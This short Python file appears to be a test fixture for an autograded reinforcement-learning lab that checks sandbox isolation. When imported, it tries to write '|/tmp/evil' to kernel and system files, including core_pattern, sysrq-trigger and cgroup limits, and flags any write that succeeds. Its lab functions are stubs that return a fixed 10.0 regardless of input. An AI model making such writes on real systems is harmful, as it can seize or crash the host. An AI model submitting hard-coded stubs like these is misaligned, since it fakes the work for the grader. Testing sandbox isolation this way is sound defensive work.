"""Writes kernel settings."""
# lab: lab1_episodes
# most: 0

import glob

for path in ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/sys/power/state",
             *glob.glob("/sys/fs/cgroup/**/*.max", recursive=True), "/proc/self/oom_score_adj", "/proc/1/oom_score_adj"]:
    try:
        with open(path, "w") as file:
            file.write("|/tmp/evil")
        raise RuntimeError(f"LEAKED {path}")
    except OSError:
        pass


def run_episode(env, policy):
    env.reset()
    return 10.0


def evaluate(env, policy, episodes):
    return [10.0] * episodes


def td_target(reward, next_value, terminated, truncated, gamma):
    return 10.0
